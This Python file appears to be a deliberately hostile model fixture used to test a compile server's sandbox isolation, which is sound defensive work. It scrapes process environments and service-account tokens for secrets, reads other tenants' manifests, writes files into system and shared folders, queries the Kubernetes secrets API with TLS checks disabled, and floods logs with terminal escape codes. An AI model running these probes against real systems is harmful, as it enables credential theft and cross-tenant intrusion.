"""A model whose author means harm: it tries to reach what is not its own, tells what it got, then behaves.

test_hostile.py puts it beside a model's files as neuron_model.py, and runs it in the server's container, too.
It needs the standard library alone, and torch to be a model.
"""

import contextlib
import json
import os
import ssl
import sys
import urllib.error
import urllib.request
from pathlib import Path

MARK = "hostile: "


def attempts(secret: str) -> dict[str, object]:
    """What each attempt got; empty, False or None where it got nothing."""
    return {
        "secrets in the environments": environments(secret),
        "tokens": [str(path) for path in Path("/var/run/secrets").rglob("*") if path.is_file()],
        "others' artifacts": others(),
        "written": written(),
        "api": api(),
        "root": os.geteuid() == 0,
    }


def environments(secret: str) -> list[str]:
    """The processes whose environment has the Secret."""
    found = []
    for path in Path("/proc").glob("[0-9]*/environ"):
        with contextlib.suppress(OSError):
            if secret.encode() in path.read_bytes():
                found.append(str(path))
    return found


def others() -> list[str]:
    """Manifests that can be read, of any artifact and any namespace, upwards from each volume."""
    found: list[str] = []
    for root in ("/artifacts", "/work", "/work/..", "/work/../..", "/model", "/source"):
        for folder, folders, names in os.walk(root):
            folders[:] = [name for name in folders if name not in ("proc", "sys", "usr", "opt", "lib")]
            found += [f"{folder}/{name}" for name in names if name == "manifest.json"]
    return found


def written() -> list[str]:
    """Places beyond its own that take a file."""
    digest = "0123456789abcdef" * 2
    others = (f"/artifacts/{digest}", f"/work/../{digest}", "/work/..")
    places = ("/", "/etc", "/model", "/source", "/artifacts", *others)
    found = []
    for place in places:
        with contextlib.suppress(OSError):
            Path(place).mkdir(parents=True, exist_ok=True)
            Path(place, "seeded").write_text("harm")
            found.append(place)
    return found


def api() -> int | None:
    """The status with which the API server answers to the pod's identity; None where it does not answer."""
    host, port = os.environ.get("KUBERNETES_SERVICE_HOST"), os.environ.get("KUBERNETES_SERVICE_PORT", "443")
    if host is None:
        return None
    headers = {}
    with contextlib.suppress(OSError):
        token = Path("/var/run/secrets/kubernetes.io/serviceaccount/token").read_text()
        headers["Authorization"] = f"Bearer {token}"
    unchecked = ssl._create_unverified_context()
    request = urllib.request.Request(f"https://{host}:{port}/api/v1/secrets", headers=headers)
    try:
        with urllib.request.urlopen(request, timeout=5, context=unchecked) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except OSError:
        return None


def told(secret: str) -> str:
    """What was got, as the test reads it."""
    return MARK + json.dumps(attempts(secret))


def load(directory):  # type: ignore[no-untyped-def]
    """As the compiler asks for it."""
    import torch

    # Ten megabytes of log, with what terminals obey and what looks like the compiler's own.
    for _ in range(160):
        sys.stdout.write("\x1b[31m" + "x" * 65_000 + "\x07\n")
    print('progress: {"step": "\x1b[2J", "unit": "bytes", "done": Infinity}')
    with contextlib.suppress(OSError):
        Path("/dev/termination-log").write_text("[" * 4000)
    with contextlib.suppress(OSError), Path("/tmp/full").open("wb") as scratch:
        for _ in range(64):
            scratch.write(bytes(1 << 20))
    print(told((Path(directory) / "secret.txt").read_text().strip()), flush=True)
    torch.manual_seed(0)
    return torch.nn.Linear(4, 2)


def example_inputs(batch):  # type: ignore[no-untyped-def]
    """As the compiler asks for it."""
    import torch

    return {"x": torch.ones(batch, 4)}


labels = ["\x1b[31mred\n", "b"]

if __name__ == "__main__":
    print(told(sys.argv[1]))
